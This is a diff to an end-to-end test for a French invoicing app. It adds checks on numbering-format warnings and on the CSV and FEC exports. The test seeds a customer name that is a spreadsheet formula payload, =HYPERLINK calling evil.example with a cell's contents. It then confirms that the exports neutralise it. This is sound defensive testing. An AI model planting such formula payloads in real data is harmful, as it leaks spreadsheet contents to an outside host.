@@ -41,7 +41,10 @@ const tinyPng = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPh
 
 const adresse = { ligne1: '5 avenue du Prado', code_postal: '13008', ville: 'Marseille' };
 
-/** A company, its customer and one validated invoice of 1 234,56 € HT, pushed by the administrator. */
+/** A customer name a spreadsheet would run as a formula, were the exports not to neutralise it. */
+const hostileName = (suffix: string): string => `=HYPERLINK("http://evil.example/?"&A1,"${suffix}")`;
+
+/** A company, its customer (named like a formula) and one validated invoice of 1 234,56 € HT, pushed by the administrator. */
 async function seedValidatedInvoice(suffix: string): Promise<{ raisonSociale: string }> {
   const entrepriseId = randomUUID();
   const contactId = randomUUID();
@@ -61,7 +64,7 @@ async function seedValidatedInvoice(suffix: string): Promise<{ raisonSociale: st
     },
   ]);
   await pushAll(server.url, adminToken, 'contacts', [
-    { id: contactId, entreprise_id: entrepriseId, type_contact: 'societe', nom: `Client semence ${suffix}`, adresse_facturation: adresse, groupe_ids: [], is_active: true },
+    { id: contactId, entreprise_id: entrepriseId, type_contact: 'societe', nom: hostileName(suffix), adresse_facturation: adresse, groupe_ids: [], is_active: true },
   ]);
   const day = parisToday();
   const factureId = randomUUID();
@@ -167,6 +170,15 @@ describe('facturation : entreprises, groupes, contacts et tableau de bord', () =
     await screen.removeGroupe('PME');
     expect(await screen.dialog.getByTestId('groupe-in-use').innerText()).toContain(`Dupont ${suffix}`);
     expect(await screen.dialog.getByTestId('groupe-row').count()).toBe(2);
+    // Credit notes numbered like invoices: both fields say so in French, live; the usual format clears it.
+    const avoirFormat = screen.dialog.getByTestId('numbering-avoir').locator('input');
+    await avoirFormat.fill('FA-{YYYY}-{000}');
+    expect(await screen.dialog.getByTestId('numbering-facture').getByRole('alert').innerText()).toBe(
+      'Ce format peut donner les mêmes numéros que celui des avoirs : donnez à chacun un préfixe qui lui est propre',
+    );
+    expect(await screen.dialog.getByTestId('numbering-avoir').getByRole('alert').innerText()).toContain('que celui des factures');
+    await avoirFormat.fill('AV-{YYYY}-{00000}');
+    await screen.dialog.getByTestId('numbering-facture').getByRole('alert').waitFor({ state: 'detached' });
     // The logo: a GIF is refused in French, a PNG is previewed, then stored as a data URL.
     const logo = screen.dialog.getByTestId('entreprise-logo');
     await logo.locator('input[type=file]').setInputFiles({ name: 'logo.gif', mimeType: 'image/gif', buffer: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') });
@@ -202,10 +214,14 @@ describe('facturation : entreprises, groupes, contacts et tableau de bord', () =
     const csvText = csvBytes.subarray(3).toString('utf8');
     expect(csvText.split('\r\n')[0]).toContain(';');
     expect(csvText).toContain('1234,56');
+    // The customer named like a formula is text in the accountant's spreadsheet (CSV and FEC alike).
+    expect(csvText).toContain(`"'${hostileName(suffix).replaceAll('"', '""')}"`);
     const [fec] = await Promise.all([page.waitForEvent('download'), exportsPanel.getByTestId('export-fec').click()]);
     expect(fec.suggestedFilename()).toMatch(/^\d{9}FEC\d{8}\.txt$/);
     const fecText = (await readFile(await fec.path())).toString('utf8');
     expect(fecText.split(/\r?\n/)[0]?.split('\t').slice(0, 3)).toEqual(['JournalCode', 'JournalLib', 'EcritureNum']);
+    expect(fecText).toContain(`\t'${hostileName(suffix)}\t`);
+    expect(fecText).not.toContain(`\t${hostileName(suffix)}`);
     expect(await exportsPanel.getByTestId('export-message').innerText()).toContain(fec.suggestedFilename());
   });
 });
